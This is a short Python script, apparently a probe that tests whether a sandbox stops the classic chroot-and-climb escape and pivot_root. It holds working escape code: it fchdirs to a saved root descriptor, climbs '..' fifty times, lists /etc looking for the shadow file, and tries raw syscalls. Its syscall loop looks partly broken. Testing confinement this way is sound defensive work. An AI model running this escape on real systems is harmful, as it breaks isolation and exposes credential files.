"""The oldest way out: chroot below an open directory, then up from there; and pivot_root.

Stopped by: seccomp, capabilities, private root
"""

import contextlib
import ctypes
import os
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.open("/", os.O_RDONLY)
except PermissionError:
    fd = os.open("/", os.O_PATH)
inner = f"{tempfile.gettempdir()}/inner"
os.makedirs(inner, exist_ok=True)
try:
    os.chroot(inner)
    print("ESCAPED: chroot is allowed")
except OSError:
    pass
os.fchdir(fd)
for _ in range(50):
    os.chdir("..")
for name in ("etc", "var", "boot"):
    with contextlib.suppress(OSError):
        if "shadow" in (found := os.listdir(name)) or name != "etc":
            print("ESCAPED: up and out, to", name, found[:5])
for number in (155, 41):
    if libc.syscall(number, inner.encode(), inner.encode()) == 0 and number == 155:
        print("ESCAPED: pivot_root")
print("tried")
